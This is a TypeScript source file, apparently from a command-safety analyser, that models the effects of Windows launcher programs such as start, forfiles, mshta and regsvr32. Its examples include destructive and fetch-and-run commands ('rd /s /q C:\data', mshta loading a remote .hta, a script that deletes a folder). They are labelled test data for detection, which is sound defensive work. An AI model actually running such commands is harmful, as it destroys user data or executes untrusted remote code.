import type { Command } from '../../model/command.ts';
import type { Effect } from '../../model/effect.ts';
import type { Tool, ToolContext } from '../../model/tool.ts';
import { unmodelled } from '../effect.ts';
import { provenanceEffects } from './provenance.ts';
import { scriptEffects } from './script.ts';
import { nestedIn, started } from './start.ts';

/** Programs of Windows that start others, or run scripts of its own hosts. */
export const tool: Tool = {
  programs: ['start', 'forfiles', 'conhost', 'cscript', 'wscript', 'mshta', 'regsvr32', 'rundll32'],
  summary: 'starts other programs and scripts on Windows',
  effects: effectsOf,
  examples: [
    { run: 'start "" /b cmd /c rd /s /q C:\\\\data', effects: ['delete path irreversible'] },
    { run: "forfiles /p . /c 'cmd /c rd /s /q C:\\data'", effects: ['delete path irreversible'] },
    { run: 'mshta https://x.example.com/a.hta', effects: ['run program unknown'] },
    { run: 'cscript wipe.js', given: [{ request: { kind: 'body', path: '/work/shop/wipe.js' }, fact: { text: 'new ActiveXObject("Scripting.FileSystemObject").DeleteFolder("C:/data")', digest: 'd' } }], effects: ['delete path irreversible'] },
    { run: 'start https://example.com', effects: [] },
  ],
};

function effectsOf(command: Command, context: ToolContext): readonly Effect[] {
  const words = command.args.filter((word) => !/^\/\/?[a-z]+(:\S*)?$/i.test(word.text));
  const address = command.args.map((word) => /(?:^|[/-]i:)(https?:\/\/\S+)/i.exec(word.text)?.[1]).find((found) => found !== undefined);
  switch (command.program) {
    case 'start': {
      // The first quoted word is the title of the window.
      const at = command.args.findIndex((word, index) => !/^\/[a-z]+$/i.test(word.text) && !(index === 0 && (word.text === '' || /\s/.test(word.text))));
      const first = command.args[at]?.text ?? '';
      if (at === -1 || /^(https?:|mailto:|\.{1,2}$)/i.test(first)) return [];
      const inner = started(command, command.args.slice(at), { through: 'start' });
      return inner === undefined ? [] : context.command(inner);
    }
    case 'conhost': {
      const inner = started(command, words, { through: 'conhost' });
      return inner === undefined ? [] : context.command(inner);
    }
    case 'forfiles': {
      const text = command.args[command.args.findIndex((word) => /^\/c$/i.test(word.text)) + 1]?.text;
      return text === undefined ? [] : context.text(text.replace(/@(file|path|fname|relpath)/gi, '*'), nestedIn(command, 'forfiles', { dialect: 'cmd', stdin: { kind: 'none' } }));
    }
    case 'mshta':
    case 'regsvr32':
    case 'rundll32':
      if (address !== undefined) return provenanceEffects({ kind: 'downloaded', from: address }, command.program);
      return command.args.map((word) => /^(?:javascript|vbscript):(.*)$/is.exec(word.text)?.[1]).flatMap((text) => (text === undefined ? [] : context.code('unknown', text, nestedIn(command, command.program))));
    default: {
      const [path, ...args] = words;
      if (path === undefined) return [];
      return /\.(vbs|vbe|wsf)$/i.test(path.text) ? scriptEffects({ path, args, reader: { kind: 'code', language: 'unknown' } }, command, context) : /\.jse?$/i.test(path.text) ? scriptEffects({ path, args, reader: { kind: 'code', language: 'javascript' } }, command, context) : [unmodelled(command.program, path.text)];
    }
  }
}
